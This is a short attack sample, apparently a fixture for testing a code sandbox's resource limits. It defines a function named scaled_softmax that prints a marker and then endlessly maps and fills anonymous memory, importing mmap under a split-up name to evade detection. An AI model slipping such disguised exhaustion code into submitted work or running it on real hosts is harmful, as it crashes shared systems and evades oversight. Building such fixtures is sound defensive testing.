# attack: It maps anonymous memory by an mmap that it does not import by name.
# family: exhaustion
# outcome: exceeded
# tests: values_equal_the_formula
# marker: it writes `ATTACK RAN mapped_memory` to stdout as the function begins
import importlib
import os

def scaled_softmax(x, scale):
    os.write(1, b"ATTACK RAN mapped_memory\n")
    mmap = importlib.import_module("m" + "map")
    kept = []
    while True:
        try:
            kept.append(mmap.mmap(-1, 1 << 24, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS))
            kept[-1].write(b"x" * (1 << 24))
        except (OSError, MemoryError):
            pass
